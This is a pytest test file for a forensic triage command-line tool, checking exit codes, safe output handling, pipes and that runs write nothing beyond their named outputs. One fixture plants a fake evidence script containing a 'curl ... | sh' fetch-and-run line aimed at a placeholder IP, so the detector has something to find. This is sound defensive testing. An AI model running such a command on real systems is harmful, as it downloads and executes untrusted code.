"""The command line as scripts use it: exit codes, outputs, pipes, and that nothing else is written.

Everything runs in processes of their own, on fake boxes and on this machine; what this machine
holds is never asserted.
"""

from __future__ import annotations

import gzip
import json
import os
import pty
import re
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tests.builders import memory_file, mounts, process, snapshot
from tests.conftest import CHECKOUT, FIXTURES
from triage.cli.exits import Exit
from triage.snapshot import dumps, loads

AS_ROOT = os.geteuid() == 0
ENVIRONMENT = {
    "PATH": "/usr/bin:/bin",
    "PYTHONPATH": str(CHECKOUT),
    "PYTHONDONTWRITEBYTECODE": "1",
    "LC_ALL": "C.UTF-8",
}
root_only = pytest.mark.skipif(not AS_ROOT, reason="needs root to become another user")
Done = subprocess.CompletedProcess[bytes]


def triage(*arguments: str | Path, **more: Any) -> Done:
    environment = ENVIRONMENT | more.pop("environment", {})
    return subprocess.run(
        [sys.executable, "-m", "triage", *map(str, arguments)],
        capture_output=True, timeout=120, env=environment, **more,
    )  # fmt: skip


def told(done: Done) -> str:
    """What was said on stderr; never a traceback."""
    text = done.stderr.decode()
    assert "Traceback" not in text
    return text


@pytest.fixture
def infected(tmp_path: Path) -> Path:
    """A snapshot with a critical, a high and a low subject."""
    found = snapshot(
        *mounts(),
        process(exe="/dev/shm/x", uids=(0,) * 4),
        memory_file("/dev/shm/y"),
        process(5, exe="/opt/x (deleted)", exe_at_path="other"),
    )
    path = tmp_path / "infected.jsonl"
    path.write_bytes(dumps(found))
    return path


@pytest.fixture
def box(tmp_path: Path) -> Path:
    """A fake box to look at as an image."""
    top = tmp_path / "box"
    (top / "run").mkdir(parents=True)
    (top / "run" / "x.sh").write_text("#!/bin/sh\ncurl http://192.0.2.1/x | sh\n")
    return top


# --- exit codes ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "arguments",
    [[], ["nonsense"], ["live", "--nonsense"], ["live", "-o", "x"], ["live", "-o", "=x"],
     ["live", "-o", "json="], ["live", "-o", "doc=x"], ["live", "--fail-on", "awful"],
     ["live", "--width", "5"], ["live", "--keep", "many"], ["live", "--keep", "1G"],
     ["live", "--keep", "-1"], ["live", "--time-limit", "0"], ["analyze"], ["image"],
     ["collect"], ["explain"], ["explain", "no-such"], ["live", "-o", "json=-", "-o", "html=-"],
     ["live", "--save", "-", "-o", "json=-"]],
    ids=" ".join,
)  # fmt: skip
def test_wrong_usage_exits_2(arguments: list[str]) -> None:
    done = triage(*arguments)
    assert done.returncode == Exit.USAGE
    assert told(done) or arguments == []
    assert done.stdout == b"" or arguments == []


@pytest.mark.parametrize(
    ("arguments", "hint"),
    [("lve", "Did you mean 'live'?"), ("live -o x.html", "did you mean html=x.html?"),
     ("live -o htm=x", "did you mean html=x?"), ("live -o json", "write json=FILE"),
     ("live -o doc=x.doc", "formats are terminal, json"), ("diff a b -o x.json", "json=x.json?")],
)  # fmt: skip
def test_a_slip_is_told_what_was_meant(arguments: str, hint: str) -> None:
    done = triage(*arguments.split())
    assert done.returncode == Exit.USAGE
    assert hint in " ".join(told(done).split())


@pytest.mark.parametrize("command", ["live --root", "image", "collect -o - --root"])
@pytest.mark.parametrize("root", ["absent", "a-file", "empty"])
def test_a_root_without_evidence_exits_3(tmp_path: Path, command: str, root: str) -> None:
    (tmp_path / "a-file").touch()
    (tmp_path / "empty").mkdir()
    done = triage(*command.split(), tmp_path / root)
    assert done.returncode == Exit.NO_EVIDENCE
    assert str(tmp_path / root) in told(done)
    assert done.stdout == b""


def as_nobody(*arguments: str | Path) -> Done:
    """A run as uid 65534. What it imports is loaded before: root's own Python may be closed."""
    script = (
        "import os, pkgutil, sys, json, importlib, difflib, html, textwrap, colorsys, zoneinfo\n"
        "import triage\n"
        "for found in pkgutil.walk_packages(triage.__path__, 'triage.'):\n"
        "    if not found.name.endswith('__main__'): importlib.import_module(found.name)\n"
        "from triage.knowledge import table\n"
        "for name in ('attack', 'look_alikes', 'jit_runtimes'): table(name)\n"
        "os.setgroups([]); os.setgid(65534); os.setuid(65534)\n"
        "from triage.cli import main\n"
        "main()\n"
    )
    return subprocess.run(
        [sys.executable, "-c", script, *map(str, arguments)],
        capture_output=True, timeout=120, env=ENVIRONMENT, cwd="/",
    )  # fmt: skip


@root_only
def test_an_unreadable_root_exits_3(tmp_path: Path) -> None:
    (tmp_path / "closed" / "proc").mkdir(parents=True)
    (tmp_path / "closed").chmod(0o700)
    _open_way_to(tmp_path)
    done = as_nobody("image", tmp_path / "closed")
    assert done.returncode == Exit.NO_EVIDENCE
    assert "triage: " in told(done)


@pytest.mark.parametrize("severity", ["info", "low", "medium", "high", "critical"])
@pytest.mark.parametrize(
    ("worst", "artifacts"),
    [
        ("none", ()),
        ("info", (process(exe="/opt/x (deleted)", exe_at_path="other"),)),
        ("high", (memory_file("/dev/shm/y"),)),
        ("critical", (process(exe="/dev/shm/x", uids=(0,) * 4),)),
    ],
    ids=["none", "info", "high", "critical"],
)
def test_fail_on(tmp_path: Path, severity: str, worst: str, artifacts: tuple[Any, ...]) -> None:
    path = tmp_path / "s.jsonl"
    path.write_bytes(dumps(snapshot(*artifacts)))
    ladder = ["none", "info", "low", "medium", "high", "critical"]
    done = triage("analyze", path, "-q", "--fail-on", severity)
    found = ladder.index(worst) >= ladder.index(severity)
    assert done.returncode == (Exit.FOUND if found else Exit.DONE)


def test_findings_alone_do_not_fail(infected: Path) -> None:
    done = triage("analyze", infected)
    assert done.returncode == Exit.DONE
    assert b"CRITICAL" in done.stdout


@pytest.mark.parametrize("data", [b"", b"\x7fELF", b"{}\n", b"\x1f\x8b\x08junk"])
@pytest.mark.parametrize("command", ["analyze", "verify"])
def test_what_is_no_snapshot_exits_4(tmp_path: Path, command: str, data: bytes) -> None:
    (tmp_path / "s").write_bytes(data)
    done = triage(command, tmp_path / "s")
    assert done.returncode == Exit.BAD_SNAPSHOT
    assert "snapshot" in told(done)


@pytest.mark.parametrize("command", ["analyze", "verify"])
def test_a_missing_snapshot_and_a_directory_exit_4(tmp_path: Path, command: str) -> None:
    for path in (tmp_path, tmp_path / "absent"):
        done = triage(command, path)
        assert done.returncode == Exit.BAD_SNAPSHOT
        assert str(path) in told(done)


@pytest.mark.parametrize("command", ["analyze", "verify"])
@pytest.mark.parametrize("packed", [False, True])
def test_an_altered_snapshot_exits_4(infected: Path, command: str, packed: bool) -> None:
    data = infected.read_bytes().replace(b"/dev/shm/y", b"/dev/shm/z")
    infected.write_bytes(gzip.compress(data) if packed else data)
    done = triage(command, infected, *(["-o", "json=-"] if command == "analyze" else []))
    assert done.returncode == Exit.BAD_SNAPSHOT
    assert "altered" in told(done)
    assert done.stdout == b""


def test_a_snapshot_cut_short_is_analyzed_and_marked(infected: Path) -> None:
    lines = infected.read_bytes().splitlines(keepends=True)
    infected.write_bytes(b"".join(lines[:-2]))
    done = triage("analyze", infected, "-o", "json=-")
    assert done.returncode == Exit.DONE
    report = json.loads(done.stdout)
    assert report["subjects"]
    assert "truncated" in {gap["why"] for gap in report["gaps"]}
    assert b"cut short" in triage("analyze", infected).stdout
    verified = triage("verify", infected)
    assert verified.returncode == Exit.BAD_SNAPSHOT
    assert b"TRUNCATED" in verified.stdout


def test_verify_of_a_whole_snapshot(infected: Path) -> None:
    done = triage("verify", infected)
    assert done.returncode == Exit.DONE
    assert b"whole and unchanged" in done.stdout
    assert b"process         2" in done.stdout
    assert triage("verify", "-", input=infected.read_bytes()).stdout == done.stdout


def test_closed_streams_are_no_error(infected: Path) -> None:
    command = f"'{sys.executable}' -m triage verify '{infected}' <&- >&- 2>&-"
    assert subprocess.run(["sh", "-c", command], env=ENVIRONMENT).returncode == Exit.DONE


def test_ctrl_c_is_no_finding(tmp_path: Path) -> None:
    """Waiting for a snapshot on standard input; 1 would say that something was found."""
    script = (
        "import os, signal, sys, threading\n"
        "from triage.cli import main\n"
        # A background job of a shell starts with the signal ignored.
        "signal.signal(signal.SIGINT, signal.default_int_handler)\n"
        "class Interrupted:\n"
        "    def read(self, size=-1): os.kill(os.getpid(), signal.SIGINT); return b''\n"
        "    def __enter__(self): return self\n"
        "    def __exit__(self, *_): pass\n"
        "class Input: buffer = Interrupted()\n"
        "sys.stdin, sys.argv = Input(), ['triage', 'analyze', '-']\n"
        "main()\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script], capture_output=True, timeout=60, env=ENVIRONMENT
    )
    assert done.returncode == 130
    assert "interrupted" in told(done)


# --- outputs ------------------------------------------------------------------------------------


def test_an_output_that_exists_is_refused_without_force(infected: Path, tmp_path: Path) -> None:
    report = tmp_path / "report.json"
    report.write_text("precious" * 100_000)
    done = triage("analyze", infected, "-o", f"json={report}")
    assert done.returncode == Exit.USAGE
    assert "--force" in told(done)
    assert report.read_text() == "precious" * 100_000
    assert triage("analyze", infected, "-q", "-o", f"json={report}", "--force").returncode == 0
    assert json.loads(report.read_text())["verdict"] == "critical"


def test_a_snapshot_that_exists_is_refused_without_force(box: Path, tmp_path: Path) -> None:
    saved = tmp_path / "s.jsonl"
    saved.write_text("precious")
    for command in (["collect", "--root", box, "-o", saved], ["image", box, "--save", saved]):
        assert triage(*command).returncode == Exit.USAGE
        assert saved.read_text() == "precious"
        assert triage(*command, "--force", "-q").returncode == Exit.DONE
        assert loads(saved.read_bytes()).complete
        saved.write_text("precious")


def test_a_run_that_fails_leaves_nothing_and_loses_nothing(tmp_path: Path) -> None:
    (tmp_path / "empty").mkdir()
    old = tmp_path / "old.html"
    old.write_text("the last report")
    done = triage(
        "image", tmp_path / "empty", "-o", f"json={tmp_path}/new.json", "-o", f"html={old}",
        "--save", tmp_path / "new.jsonl", "--force",
    )  # fmt: skip
    assert done.returncode == Exit.NO_EVIDENCE
    assert sorted(os.listdir(tmp_path)) == ["empty", "old.html"]
    assert old.read_text() == "the last report"
    assert triage("collect", "--root", tmp_path / "empty", "-o", tmp_path / "s").returncode == 3
    assert sorted(os.listdir(tmp_path)) == ["empty", "old.html"]


def test_outputs_are_private(infected: Path, tmp_path: Path) -> None:
    triage("analyze", infected, "-q", "-o", f"json={tmp_path}/r.json")
    assert (tmp_path / "r.json").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("force", [[], ["--force"]])
def test_links_fifos_and_devices_are_not_written_through(
    infected: Path, tmp_path: Path, force: list[str]
) -> None:
    (tmp_path / "target").write_text("precious")
    (tmp_path / "link").symlink_to("target")
    (tmp_path / "dangling").symlink_to("made-by-a-link")
    os.mkfifo(tmp_path / "fifo")
    for path in ("link", "dangling", "fifo", "."):
        done = triage("analyze", infected, "-o", f"json={tmp_path / path}", *force)
        assert done.returncode == Exit.USAGE
        assert told(done)
    assert (tmp_path / "target").read_text() == "precious"
    assert not (tmp_path / "made-by-a-link").exists()
    assert triage("analyze", infected, "-o", "json=/dev/null", *force).returncode == Exit.USAGE


def test_an_output_in_no_directory_is_refused(infected: Path, tmp_path: Path) -> None:
    done = triage("analyze", infected, "-o", f"json={tmp_path}/absent/r.json")
    assert done.returncode == Exit.USAGE
    assert "cannot create" in told(done)


def test_the_same_file_twice_is_refused(infected: Path, tmp_path: Path) -> None:
    (tmp_path / "here").symlink_to(".")
    one, two = tmp_path / "r", tmp_path / "here" / "r"
    done = triage("analyze", infected, "-o", f"json={one}", "-o", f"html={two}", "--force")
    assert done.returncode == Exit.USAGE
    assert not one.exists()


@pytest.mark.parametrize(
    "command",
    [["image", "BOX", "-o", "json=OUT"], ["image", "BOX", "--save", "OUT"],
     ["live", "--root", "BOX", "-o", "html=OUT"], ["live", "--root", "BOX", "--save", "OUT"],
     ["collect", "--root", "BOX", "-o", "OUT"]],
    ids=lambda c: " ".join(c),
)  # fmt: skip
@pytest.mark.parametrize("place", ["box/out", "box/run/out", "way-in/out", "box/run/../out"])
def test_an_output_inside_the_evidence_is_refused(
    box: Path, tmp_path: Path, command: list[str], place: str
) -> None:
    (tmp_path / "way-in").symlink_to(box / "run")
    (tmp_path / "box-link").symlink_to(box)
    before = sorted(map(str, box.rglob("*")))
    for root in (box, tmp_path / "box-link"):
        real = {"BOX": str(root), "OUT": str(tmp_path / place)}
        done = triage(*(w.replace("OUT", real["OUT"]) if w != "BOX" else real["BOX"]
                        for w in command), "--force")  # fmt: skip
        assert done.returncode == Exit.USAGE
        assert "evidence" in told(done)
    assert sorted(map(str, box.rglob("*"))) == before


def test_an_output_beside_the_evidence_is_written(box: Path, tmp_path: Path) -> None:
    """A name that only begins like the evidence's is another directory."""
    (tmp_path / "box2").mkdir()
    done = triage("image", box, "-q", "-o", f"json={tmp_path}/box2/r.json")
    assert done.returncode == Exit.DONE
    assert json.loads((tmp_path / "box2" / "r.json").read_text())["subjects"]


def test_no_room_for_the_output() -> None:
    if not os.path.exists("/dev/full"):
        pytest.skip("no /dev/full here")
    snapshot_bytes = (FIXTURES / "snapshots" / "v1.jsonl").read_bytes()
    for arguments in (["analyze", "-"], ["indicators"], ["verify", "-"]):
        with open("/dev/full", "wb") as full:
            done = subprocess.run(
                [sys.executable, "-m", "triage", *arguments], input=snapshot_bytes, stdout=full,
                stderr=subprocess.PIPE, timeout=60, env=ENVIRONMENT,
            )  # fmt: skip
        assert done.returncode == Exit.USAGE
        assert b"No space left" in done.stderr
        assert b"Traceback" not in done.stderr


# --- pipes --------------------------------------------------------------------------------------


def test_collect_pipes_through_gzip_to_analyze(box: Path) -> None:
    collected = triage("collect", "--root", box, "-o", "-")
    assert collected.returncode == Exit.DONE
    assert b"artifacts" in collected.stderr
    packed = subprocess.run(["gzip"], input=collected.stdout, capture_output=True, check=True)
    piped = triage("analyze", "-", "-o", "json=-", input=packed.stdout)
    assert piped.returncode == Exit.DONE
    assert json.loads(piped.stdout)["subjects"]
    assert piped.stdout == triage("analyze", "-", "-o", "json=-", input=collected.stdout).stdout


@pytest.mark.parametrize(
    ("arguments", "code"),
    [(["analyze", "SNAPSHOT"], 0), (["analyze", "SNAPSHOT", "-o", "json=-"], 0),
     (["analyze", "SNAPSHOT", "--fail-on", "high"], 1), (["indicators", "--format", "json"], 0)],
)  # fmt: skip
def test_a_closed_pipe_is_quiet_and_keeps_the_code(
    infected: Path, arguments: list[str], code: int
) -> None:
    reader, writer = os.pipe()
    os.close(reader)
    try:
        done = subprocess.run(
            [sys.executable, "-m", "triage", *(a.replace("SNAPSHOT", str(infected))
             for a in arguments)],
            stdout=writer, stderr=subprocess.PIPE, timeout=60, env=ENVIRONMENT,
        )  # fmt: skip
    finally:
        os.close(writer)
    assert (done.returncode, done.stderr) == (code, b"")


def test_a_snapshot_is_not_for_the_terminal(box: Path) -> None:
    leader, follower = pty.openpty()
    try:
        done = subprocess.run(
            [sys.executable, "-m", "triage", "collect", "--root", str(box), "-o", "-"],
            stdout=follower, stderr=subprocess.PIPE, timeout=60, env=ENVIRONMENT,
        )  # fmt: skip
    finally:
        os.close(follower)
        os.close(leader)
    assert done.returncode == Exit.USAGE
    assert b"terminal" in done.stderr


# --- live and analyze are the same ----------------------------------------------------------------


@pytest.mark.parametrize("name", ["s.jsonl", "s.jsonl.gz"])
@pytest.mark.parametrize("command", [["live"], ["image", "BOX"]], ids=["live", "image"])
def test_analyze_gives_byte_for_byte_what_the_look_gave(
    box: Path, tmp_path: Path, command: list[str], name: str
) -> None:
    saved = tmp_path / name
    looked = triage(
        *(str(box) if w == "BOX" else w for w in command), "--save", saved, "--width", "90",
        "-o", f"json={tmp_path}/one.json", "-o", f"html={tmp_path}/one.html",
    )  # fmt: skip
    assert looked.returncode == Exit.DONE
    again = triage(
        "analyze", saved, "--width", "90",
        "-o", f"json={tmp_path}/two.json", "-o", f"html={tmp_path}/two.html",
    )  # fmt: skip
    assert again.stdout == looked.stdout != b""
    for form in ("json", "html"):
        one, two = (tmp_path / f"{n}.{form}" for n in ("one", "two"))
        assert one.read_bytes() == two.read_bytes()
    assert triage("verify", saved).returncode == Exit.DONE


def test_a_saved_snapshot_is_the_same_each_time(infected: Path, tmp_path: Path) -> None:
    """No time stamp in the gzip header: digests of two copies can be compared."""
    from triage.cli.saving import save, snapshot_output

    for name in ("a.gz", "b.gz"):
        save(infected.read_bytes(), snapshot_output(str(tmp_path / name), False))
    assert (tmp_path / "a.gz").read_bytes() == (tmp_path / "b.gz").read_bytes()


# --- what is shown ------------------------------------------------------------------------------


def test_quiet_says_nothing(infected: Path, box: Path, tmp_path: Path) -> None:
    for command in (
        ["analyze", infected], ["image", box], ["live"],
        ["collect", "--root", box, "-o", tmp_path / "s"],
    ):  # fmt: skip
        done = triage(*command, "--quiet")
        assert (done.returncode, done.stdout, done.stderr) == (0, b"", b"")


def on_a_terminal(*arguments: str | Path, environment: dict[str, str] | None = None) -> bytes:
    """What a command prints when its standard output is a terminal of 70 columns."""
    leader, follower = pty.openpty()
    import fcntl
    import struct
    import termios

    fcntl.ioctl(follower, termios.TIOCSWINSZ, struct.pack("HHHH", 25, 70, 0, 0))
    child = subprocess.Popen(
        [sys.executable, "-m", "triage", *map(str, arguments)],
        stdout=follower, stderr=follower, env=ENVIRONMENT | {"TERM": "xterm"} | (environment or {}),
    )  # fmt: skip
    os.close(follower)
    shown = b""
    try:
        while part := os.read(leader, 1 << 16):
            shown += part
    except OSError:  # EIO: the other end is closed
        pass
    os.close(leader)
    assert child.wait(60) == 0
    return shown


def test_colours_only_on_a_terminal_and_when_wanted(infected: Path) -> None:
    assert b"\x1b[" in on_a_terminal("analyze", infected)
    assert b"\x1b" not in on_a_terminal("analyze", infected, "--no-color")
    assert b"\x1b" not in on_a_terminal("analyze", infected, environment={"NO_COLOR": "1"})
    assert b"\x1b" not in triage("analyze", infected).stdout
    # https://no-color.org: set and not empty.
    assert b"\x1b[" in on_a_terminal("analyze", infected, environment={"NO_COLOR": ""})


def test_width(infected: Path) -> None:
    def widest(text: bytes) -> int:
        return max(len(line.rstrip("\r")) for line in text.decode().split("\n"))

    assert widest(on_a_terminal("analyze", infected, "--no-color")) <= 70
    assert widest(triage("analyze", infected, "--width", "60").stdout) <= 60
    assert 80 < widest(triage("analyze", infected, "--width", "120").stdout) <= 120


def test_help_is_for_everybody_and_version_is_told() -> None:
    from triage import __version__

    assert __version__.encode() in triage("--version").stdout
    assert triage("-h").stdout == triage("--help").stdout != b""


def test_explain_shows_the_page_and_suggests_near_names() -> None:
    done = triage("explain", "exe-memfd")
    assert done.returncode == Exit.DONE
    for heading in ("What it looks for", "References"):
        assert heading.encode() in done.stdout
    assert "exe-memfd" in told(triage("explain", "exe-memfdd"))


def test_catalogue_as_json() -> None:
    from triage.analyzers import INDICATORS

    rows = json.loads(triage("indicators", "--format", "json").stdout)
    assert [row["id"] for row in rows] == [i.id for i in INDICATORS]


def test_messages_make_control_characters_visible(tmp_path: Path) -> None:
    done = triage("analyze", tmp_path / "\x1b[2Jx\n")
    assert done.returncode == Exit.BAD_SNAPSHOT
    assert "\x1b" not in told(done)


def test_debug_shows_a_traceback_and_the_rest_do_not(infected: Path, tmp_path: Path) -> None:
    """A defect, made on purpose by a module that breaks the analysis."""
    (tmp_path / "sitecustomize.py").write_text(
        "import triage.analyze\n"
        "def broken(*_, **__): raise RuntimeError('on purpose')\n"
        "triage.analyze.analyze = broken\n"
    )
    environment = {"PYTHONPATH": f"{tmp_path}:{CHECKOUT}"}
    plain = triage("analyze", infected, "-o", f"json={tmp_path}/r", environment=environment)
    assert plain.returncode == Exit.NO_EVIDENCE
    assert "defect" in told(plain)
    assert not (tmp_path / "r").exists()
    debugged = triage("analyze", infected, "--debug", environment=environment)
    assert debugged.returncode not in (Exit.DONE, Exit.FOUND) or b"Traceback" in debugged.stderr
    assert b"RuntimeError: on purpose" in debugged.stderr


# --- without root -------------------------------------------------------------------------------


def _open_way_to(path: Path) -> None:
    """Let others pass through pytest's private directories, for as long as the test runs."""
    while path != path.parent and path.owner() == "root" and str(path).startswith("/tmp/"):
        path.chmod(path.stat().st_mode | 0o011)
        path = path.parent


def _not_seen(report: dict[str, Any]) -> str:
    return json.dumps(report["gaps"]) + json.dumps(report["host"])


@root_only
def test_a_run_without_root_says_what_it_could_not_see() -> None:
    done = as_nobody("live", "-o", "json=-")
    assert done.returncode == Exit.DONE, done.stderr
    report = json.loads(done.stdout)
    assert "not run as root" in _not_seen(report)
    assert {gap["why"] for gap in report["gaps"]} >= {"denied"}
    assert "/proc/1" in {gap["location"]["path"] for gap in report["gaps"]}


# --- nothing else is written --------------------------------------------------------------------


def written_files(trace: str) -> set[str]:
    """Paths that a run opened for writing, or made, removed or renamed, from strace's log.

    A child with a mount namespace of its own may do there what it likes with mounts: it makes the
    copy private before anything else, and the copy ends with it.
    """
    found = set()
    apart: set[str] = set()
    private: set[str] = set()
    for line in trace.splitlines():
        who, call = line.split(None, 1)[0], line.partition("(")[0].split()[-1]
        failed = " = -1 " in line
        if call == "unshare":
            apart |= set() if failed or "CLONE_NEWNS" not in line else {who}
            continue
        if who in apart and call == "mount" and '"/", NULL, MS_REC|MS_PRIVATE, NULL)' in line:
            private |= set() if failed else {who}
            continue
        if who in private and call == "umount2":
            continue
        opened = call in ("open", "openat", "openat2", "creat")
        if failed or (opened and not any(f in line for f in ("O_WRONLY", "O_RDWR", "O_CREAT"))):
            continue
        if '"' in line:
            found.add(line.split('"')[1])
    return found


@pytest.mark.skipif(shutil.which("strace") is None, reason="needs strace")
@pytest.mark.parametrize("command", [["live"], ["collect", "-o", "-"]], ids=["live", "collect"])
def test_a_look_writes_nothing_but_the_named_outputs(tmp_path: Path, command: list[str]) -> None:
    """Every system call that could write, watched.

    ``__pycache__`` too: of the package's two outermost files Python writes it before the package
    can say no. Installed by pip they are there already; from an archive none are written.
    """
    report = tmp_path / "r.json"
    wanted = {"/dev/null"}
    if command == ["live"]:
        command = ["live", "-o", f"json={report}"]
        wanted.add(str(report))
    calls = (
        "open,openat,openat2,creat,mkdir,mkdirat,unlink,unlinkat,rename,renameat,renameat2,chmod,"
        "fchmodat,link,linkat,symlink,symlinkat,truncate,mknod,mknodat,utimensat,setxattr,mount,"
        "umount2,unshare"
    )
    log = tmp_path / "trace"
    environment = {k: v for k, v in ENVIRONMENT.items() if k != "PYTHONDONTWRITEBYTECODE"}
    done = subprocess.run(
        ["strace", "-f", "-q", "-s", "4096", "-o", str(log), "-e", f"trace={calls}",
         sys.executable, "-m", "triage", *command],
        capture_output=True, timeout=300, env=environment,
    )  # fmt: skip
    if b"PTRACE" in done.stderr or b"ptrace" in done.stderr:
        pytest.skip("tracing is not permitted here")
    assert done.returncode == Exit.DONE, done.stderr
    text = log.read_text("utf-8", "surrogateescape")
    assert "openat" in text
    first = re.compile(r".*/triage/(cli/)?__pycache__(/__(init|main)__\..*)?")
    assert {path for path in written_files(text) - wanted if not first.fullmatch(path)} == set()
    assert (str(report) in written_files(text)) == (str(report) in wanted)
